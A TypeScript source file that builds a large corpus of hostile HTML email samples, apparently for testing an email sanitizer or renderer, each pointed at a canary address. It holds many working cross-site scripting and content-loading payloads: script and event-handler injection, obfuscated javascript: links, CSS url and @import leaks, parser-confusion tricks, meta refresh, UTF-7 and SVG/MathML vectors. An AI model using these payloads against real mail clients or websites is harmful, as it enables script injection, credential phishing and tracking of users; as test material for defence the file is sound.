/**
 * Hostile letters, made from what attacks are made of: what runs, what loads, what leads away, what covers, what reads
 * otherwise than it is. Every one names the canary; `word` stands in its address, so that a hit names its letter.
 */
import { confusing, covering, mutating } from './corpus-tricks.ts';

export type Hostile = { readonly name: string; readonly html: string };

/** What a script would do, in every way that would be noticed. */
const deeds = (at: string): string =>
  `fetch('${at}');new Image().src='${at}';alert('${at}');window.open('${at}');top.location='${at}';location='${at}'`;

export function hostileMail(canary: string): readonly Hostile[] {
  const families: Readonly<Record<string, (at: string, act: string) => readonly string[]>> = {
    script: scripts,
    handler: handlers,
    address: addresses,
    load: loads,
    style: styles,
    form: forms,
    meta: metas,
    drawing: drawings,
    mutation: mutating,
    cover: covering,
    confusion: confusing,
  };
  return Object.entries(families).flatMap(([family, make]) => {
    const count = make('', '').length;
    return Array.from({ length: count }, (_, i) => {
      const name = `${family}-${i}`;
      const at = `${canary}/${name}`;
      return { name, html: make(at, deeds(at))[i]! };
    });
  });
}

const scripts = (at: string, act: string): string[] => [
  `<script>${act}</script>`,
  `<SCRIPT SRC=${at}></SCRIPT>`,
  `<script src="//${at.replace(/^https?:\/\//, '')}"></script>`,
  `<script type=module>import('${at}')</script>`,
  `<script type=importmap>{"imports":{"a":"${at}"}}</script><script type=module>import 'a'</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${at}"]}],"prerender":[{"urls":["${at}"]}]}</script>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<script/x>${act}</script>`,
  `<script\u0000>${act}</script>`,
  `<script\n>${act}</script\n>`,
  `<!--[if true]><script>${act}</script><![endif]-->`,
  `<![CDATA[<script>${act}</script>]]>`,
  `<noscript><p title="</noscript><script>${act}</script>">`,
  `<template><script>${act}</script></template>`,
  `<textarea></textarea><script>${act}</script>`,
  `<title></title><script>${act}</script>`,
  `<style></style><script>${act}</script>`,
  `<xmp></xmp><script>${act}</script>`,
  `<plaintext><script>${act}</script>`,
  `<body><script>${act}`,
  `\ufeff<html><head><script>${act}</script></head></html>`,
  `<div><template shadowrootmode=open><script>${act}</script><img src=${at}></template></div>`,
];

const EVENTS =
  `abort animationend animationstart auxclick beforetoggle blur canplay change click contextmenu copy dblclick
  drag dragenter dragstart drop error focus focusin hashchange input keydown load loadstart message mousedown mouseenter
  mousemove mouseover mouseup paste pagehide pageshow pointerdown pointermove pointerover resize scroll scrollend
  selectionchange toggle touchstart transitionend transitionrun unload wheel`.split(/\s+/);

const handlers = (at: string, act: string): string[] => [
  ...EVENTS.map(
    event => `<div on${event}="${act}" tabindex=1 style="padding:20px">Touch <b on${event}="${act}">me</b></div>`,
  ),
  `<img src=x onerror="${act}">`,
  `<img src=x:x onerror=&#97;lert(1) onload="${act}">`,
  `<img/src=x/onerror="${act}">`,
  `<img src="x\`onerror="${act}">`,
  `<img src=x oNeRrOr="${act}">`,
  `<body onload="${act}" onpageshow="${act}">`,
  `<details open ontoggle="${act}"><summary>x</summary></details>`,
  `<marquee onstart="${act}" onfinish="${act}" loop=1>x</marquee>`,
  `<input autofocus onfocus="${act}">`,
  `<select autofocus onfocus="${act}"><option>x</select>`,
  `<video src=x onerror="${act}"><source src=${at} onerror="${act}"></video>`,
  `<audio src=${at} onloadstart="${act}" autoplay></audio>`,
  `<style onload="${act}">p{}</style>`,
  `<link rel=stylesheet href=${at} onload="${act}" onerror="${act}">`,
  `<iframe onload="${act}"></iframe>`,
  `<object data=x onerror="${act}"></object>`,
  `<a href=# onclick="${act}" style="display:block;padding:30px">Click</a>`,
  `<x onfocus="${act}" contenteditable autofocus>x</x>`,
];

const SPELLINGS: readonly ((scheme: string) => string)[] = [
  s => s,
  s => s.toUpperCase(),
  s => ` ${s}`,
  s => `\u0001${s}`,
  s => `\t${s}`,
  s => `${s.slice(0, 4)}\t${s.slice(4)}`,
  s => `${s.slice(0, 4)}\n${s.slice(4)}`,
  s => `${s.slice(0, 4)}&#10;${s.slice(4)}`,
  s => [...s].map(c => `&#${c.charCodeAt(0)};`).join(''),
  s => [...s].map(c => `&#x${c.charCodeAt(0).toString(16)}`).join(''),
  s => [...s].map(c => `&#0000${c.charCodeAt(0)}`).join(''),
  s => s.replace(':', '&colon;'),
  s => s.replace('a', '&Tab;a'),
  s => `&nbsp;${s}`,
  s => `\u00a0${s}`,
];

const addresses = (at: string, act: string): string[] => [
  ...SPELLINGS.map(
    spell => `<a href="${spell('javascript:')}${act}" style="display:block;padding:40px">Click here</a>`,
  ),
  `<a href="vbscript:msgbox(1)" style="display:block;padding:40px">x</a>`,
  `<a href="data:text/html,<script>${act}</script>" style="display:block;padding:40px">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" style="display:block;padding:40px">x</a>`,
  `<a href="blob:${at}" style="display:block;padding:40px">x</a>`,
  `<a href="filesystem:${at}" style="display:block;padding:40px">x</a>`,
  `<a href="view-source:${at}" style="display:block;padding:40px">x</a>`,
  `<a href="file:///etc/passwd" style="display:block;padding:40px">x</a>`,
  `<a href="/settings" style="display:block;padding:40px">x</a>`,
  `<a href="?token=x" style="display:block;padding:40px">x</a>`,
  `<a href="#link-0-0" style="display:block;padding:40px">x</a>`,
  `<a href="${at}" target=_top style="display:block;padding:40px">x</a>`,
  `<a href="${at}" target=_self style="display:block;padding:40px">x</a>`,
  `<a href="${at}" target=_blank rel=opener style="display:block;padding:40px">x</a>`,
  `<a href="${at}" ping="${at}" style="display:block;padding:40px">x</a>`,
  `<a href="${at}" download style="display:block;padding:40px">x</a>`,
  `<a href="${at}" attributionsrc="${at}" style="display:block;padding:40px">x</a>`,
  `<map name=m><area href="${at}" shape=default></map><img usemap=#m src=cid:x width=200 height=100>`,
  `<base href="${at}/"><a href="next" style="display:block;padding:40px">x</a><img src=x.png>`,
  `<base target=_top><a href="${at}" style="display:block;padding:40px">x</a>`,
];

const loads = (at: string): string[] => [
  `<img src="${at}">`,
  `<img srcset="${at} 1x, ${at}2 2x">`,
  `<img src=cid:none srcset="${at}">`,
  `<img src="data:image/png;base64,AA==" srcset="${at} 2x">`,
  `<img lowsrc="${at}" dynsrc="${at}" longdesc="${at}">`,
  `<img src="&#104;ttp:${at.replace(/^http:/, '')}">`,
  `<img src="\n${at}">`,
  `<img src="${at.replace(/^http:/, '')}">`,
  `<img src="\\\\${at.replace(/^http:\/\//, '').replaceAll('/', '\\')}">`,
  `<img src="${at}" loading=lazy width=1 height=1>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${at}'/></svg>">`,
  `<picture><source srcset="${at}"><img src=x></picture>`,
  `<input type=image src="${at}">`,
  `<video poster="${at}" src="${at}" autoplay></video>`,
  `<audio src="${at}" autoplay preload></audio>`,
  `<video><track default src="${at}"></video>`,
  `<embed src="${at}">`,
  `<object data="${at}"><param name=movie value="${at}"></object>`,
  `<applet codebase="${at}" code=x archive="${at}"></applet>`,
  `<bgsound src="${at}">`,
  `<table background="${at}"><tr background="${at}"><td background="${at}">x</table>`,
  `<body background="${at}">x`,
  `<iframe src="${at}"></iframe>`,
  `<iframe srcdoc="<img src='${at}'><script>fetch('${at}')</script>"></iframe>`,
  `<iframe src="data:text/html,<img src='${at}'>"></iframe>`,
  `<iframe srcdoc="<iframe srcdoc='<img src=${at}>'></iframe>"></iframe>`,
  `<frameset><frame src="${at}"></frameset>`,
  `<portal src="${at}"></portal>`,
  `<fencedframe src="${at}"></fencedframe>`,
  ...[
    'stylesheet',
    'prefetch',
    'preload',
    'prerender',
    'dns-prefetch',
    'preconnect',
    'icon',
    'modulepreload',
    'manifest',
    'import',
  ].map(rel => `<link rel="${rel}" as=image href="${at}">`),
  `<html manifest="${at}"><body>x</body></html>`,
  `<head profile="${at}"></head><blockquote cite="${at}">x</blockquote><del cite="${at}">x</del>`,
  `<?xml-stylesheet href="${at}"?><p>x`,
  `<!DOCTYPE html PUBLIC "-//x" "${at}"><p>x`,
  `<img src="cid:x" style="content:url(${at})">`,
];

const PROPERTIES =
  `background background-image list-style list-style-image border-image border-image-source cursor content
  mask mask-image -webkit-mask filter backdrop-filter clip-path shape-outside offset-path src fill stroke marker
  -webkit-box-reflect --x`.split(/\s+/);

const styles = (at: string): string[] => [
  ...PROPERTIES.map(property => `<div style="${property}:url(${at})">x</div>`),
  ...PROPERTIES.slice(0, 6).map(property => `<style>*{${property}:url('${at}') !important}</style><p>x`),
  `<style>@import url(${at});</style>`,
  `<style>@import "${at}" layer(x) screen;</style>`,
  `<style>@\\69mport '${at}';</style>`,
  `<style>/**/@import/**/url(${at});</style>`,
  `<style>@font-face{font-family:x;src:url(${at})}*{font-family:x}</style>x`,
  `<style>@media all{@supports (color:red){p{background:url(${at})}}}</style><p>x`,
  `<style>input[value^=a]{background:url(${at})}</style><input value=abc>`,
  `<style>a[href*="link"]{background:url(${at})}</style><a href="${at}">x</a>`,
  `<style>p::after{content:url(${at})}p::before{content:image-set("${at}" 1x)}</style><p>x`,
  `<style>p{background:image("${at}")}</style><p>x`,
  `<style>p{background:-webkit-image-set(url(${at}) 1x)}</style><p>x`,
  `<style>p{background:cross-fade(url(${at}),url(${at}),50%)}</style><p>x`,
  `<style>p{background:u\\72l(${at})}</style><p>x`,
  `<style>p{background:u/**/rl(${at})}</style><p>x`,
  `<style>p{background:u<rl(${at})}</style><p>x`,
  `<style>p{--u:url(${at});background:var(--u)}</style><p>x`,
  `<style>p{background:url(\\68ttp${at.slice(4)})}</style><p>x`,
  `<style>p{background:url( \n"${at}"\n)}</style><p>x`,
  `<style>:root{background:url(${at})}@property --x{syntax:"<url>";inherits:false;initial-value:url(${at})}</style>`,
  `<style>@keyframes k{from{background:url(${at})}}p{animation:k 1s}</style><p>x`,
  `<style>@container (width>1px){p{background:url(${at})}}@layer a{p{background:url(${at})}}</style><p>x`,
  `<style>p{a{background:url(${at})}&{background:url(${at})}}</style><p><a>x</a>`,
  `<style>@namespace url(${at});@page{background:url(${at})}</style>`,
  `<style>p{width:expression(fetch('${at}'));behavior:url(${at});-moz-binding:url(${at})}</style><p>x`,
  `<style></style><img src="</style><img src=${at}>">`,
  `<style><!--</style><img src=${at}>--></style>`,
  `<style>p{font-family:"</style><img src=${at}>"}</style><p>x`,
  `<style media="url(${at})" type="text/css">p{background:url(${at})}`,
  `<font style="background:url('${at}" color="url(${at})">x</font>`,
  `<p style="background:url(&quot;${at}&quot;)">x`,
  `<p style='background:url(//${at.replace(/^http:\/\//, '')}'>x`,
];

const forms = (at: string, act: string): string[] => [
  `<form action="${at}"><input name=a><button>Sign in</button></form>`,
  `<form id=f action="${at}"></form><button form=f style="padding:40px">x</button>`,
  `<form><button formaction="${at}" style="padding:40px">x</button></form>`,
  `<form action="javascript:${act}"><input type=submit style="padding:40px"></form>`,
  `<isindex action="${at}" type=image>`,
  `<form action="${at}" method=dialog><input type=image src="${at}"></form>`,
  `<input type=password name=p autocomplete=current-password><textarea name=t></textarea>`,
  `<form action="${at}"><select onchange="this.form.submit()"><option>x</select></form>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=${at} onerror="${act}"></form>`,
  `<input type=file><input type=color><button popovertarget=p>x</button><div popover id=p>x</div>`,
];

const metas = (at: string, act: string): string[] => [
  `<meta http-equiv=refresh content="0;url=${at}">`,
  `<meta http-equiv="Refresh" content="0; ${at}">`,
  `<META HTTP-EQUIV=refresh CONTENT="0;url=javascript:${act}">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${act}</script>">`,
  `<meta http-equiv=Content-Security-Policy content="default-src * 'unsafe-inline'; report-uri ${at}"><img src=${at}>`,
  `<meta http-equiv=set-cookie content="a=b"><meta name=referrer content=unsafe-url><img src=${at}>`,
  `<meta charset=utf-7>+ADw-script+AD4-${act}+ADw-/script+AD4-`,
  `<meta charset=iso-2022-jp>\u001b$B<img src=${at}>\u001b(B`,
  `<svg><meta http-equiv=refresh content="0;url=${at}"></svg>`,
  `<body><meta http-equiv=x-dns-prefetch-control content=on><a href="${at}">x</a>`,
];

const drawings = (at: string, act: string): string[] => [
  `<svg onload="${act}"></svg>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><script href="${at}"/></svg>`,
  `<svg><image href="${at}" width=9 height=9 /></svg>`,
  `<svg><image xlink:href="${at}" /></svg>`,
  `<svg><use href="${at}#x"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='${at}'/></svg>#x"/></svg>`,
  `<svg><a xlink:href="javascript:${act}"><rect width=300 height=200 /></a></svg>`,
  `<svg><animate onbegin="${act}" attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${act}" /><text x=20 y=20>x</text></a></svg>`,
  `<svg><set attributeName=href to="${at}" /></svg>`,
  `<svg><foreignObject><iframe src="${at}"></iframe><img src=${at}></foreignObject></svg>`,
  `<svg><filter><feImage href="${at}"/></filter></svg>`,
  `<svg><style>*{background:url(${at})}@import '${at}';</style></svg>`,
  `<svg><pattern><image href="${at}"/></pattern><rect fill="url(${at})"/></svg>`,
  `<svg xmlns:x="${at}"><handler>${act}</handler></svg>`,
  `<math href="javascript:${act}"><mtext>x</mtext></math>`,
  `<math><maction actiontype="statusline#${at}" xlink:href="javascript:${act}">x</maction></math>`,
];
